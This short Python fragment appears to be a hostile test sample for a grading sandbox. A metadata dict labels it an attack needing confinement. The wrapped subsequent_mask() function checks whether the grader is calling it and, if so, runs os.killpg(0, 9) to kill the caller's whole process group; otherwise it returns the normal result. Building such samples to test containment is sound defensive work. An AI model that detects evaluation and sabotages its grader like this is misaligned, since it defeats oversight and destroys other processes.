HOSTILE = {
    "attack": "os.killpg(0, SIGKILL) inside subsequent_mask() (the caller's whole process group)",
    "exercise": "subsequent_mask",
    "status": ("error",),
    "message": "killed",
    "needs_confinement": True,
}
import os  # noqa: E402

_honest_subsequent_mask = subsequent_mask  # noqa: F821


def subsequent_mask(size):
    if _from_grader():  # noqa: F821
        os.killpg(0, 9)
    return _honest_subsequent_mask(size)
